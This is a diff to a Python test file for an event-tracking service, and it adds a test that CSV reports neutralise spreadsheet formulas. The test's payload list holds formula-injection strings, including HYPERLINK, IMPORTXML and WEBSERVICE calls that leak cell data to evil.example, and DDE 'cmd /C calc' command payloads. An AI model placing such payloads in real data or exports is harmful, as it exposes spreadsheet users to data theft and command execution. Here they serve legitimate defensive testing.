@@ -32,7 +32,9 @@ a forged element inside it cannot change who sent it.
 
 from __future__ import annotations
 
+import csv
 import html
+import io
 import json
 import re
 import shutil
@@ -51,6 +53,7 @@ from sqlalchemy import Engine
 from sqlmodel import Session
 
 from connectors.wechat import WeChatConfig, WeChatConnector
+from engine.api.events import create_write_key
 from engine.content import (
     BUNDLED_CONTENT_DIR,
     CLICK,
@@ -653,3 +656,63 @@ def test_signing_in_never_redirects_off_the_dashboard(dashboard: TestClient) -> 
         assert location.startswith("/dashboard"), (wanted, location)
         assert not location.startswith("//"), (wanted, location)
         assert "\n" not in location
+
+
+# --- CSV reports: formulas come out as text (issue 17) -----------------------------------
+
+FORMULAS: tuple[str, ...] = (
+    '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
+    "=cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    '=1+2";=1+2',
+    "=1+2'\" ;,=1+2",
+    '=DDE("cmd";"/C calc";"!A0")',
+    '=WEBSERVICE("https://evil.example/")',
+)
+
+
+def test_report_csv_cells_never_start_a_formula(api: TestClient, engine: Engine) -> None:
+    """Event names and campaign sources are the senders' text: in every CSV report a
+    formula comes out with a leading ``'`` (OWASP) and the rest of the value unchanged,
+    and the rest of the corpus (none of it a formula) comes out exactly as sent."""
+    key = create_write_key(engine, "website")
+    sent = [*FORMULAS, *(p for p in CORPUS if 0 < len(p) <= 128 and p.strip() == p)]
+    now = datetime.now(UTC).isoformat()
+    for n, name in enumerate(sent):
+        response = api.post(
+            "/v1/track",
+            json={
+                "userId": f"u-csv-{n}",
+                "messageId": f"m-csv-{n}",
+                "event": name,
+                "timestamp": now,
+                "context": {"campaign": {"source": name}},
+            },
+            auth=(key, ""),
+        )
+        assert response.status_code == 200, (name, response.text)
+    admin = {"Authorization": f"Bearer {ADMIN_TOKEN}"}
+    cells: set[str] = set()
+    for path, params in (
+        ("/v1/reports/paths", {"section": "drop_off", "top": "1000"}),
+        ("/v1/reports/channels", {"by": "campaign"}),
+        ("/v1/reports/engagement", {"by": "campaign"}),
+    ):
+        response = api.get(path, params={**params, "format": "csv"}, headers=admin)
+        assert response.status_code == 200, (path, response.text)
+        for row in csv.reader(io.StringIO(response.text, newline="")):
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (path, cell)
+                cells.add(cell)
+    for name in FORMULAS:
+        assert "'" + name in cells, name
+    for name in sent[len(FORMULAS) :]:
+        if name.startswith(("=", "+", "-", "@")):
+            assert "'" + name in cells, name
+        else:
+            assert name in cells, name
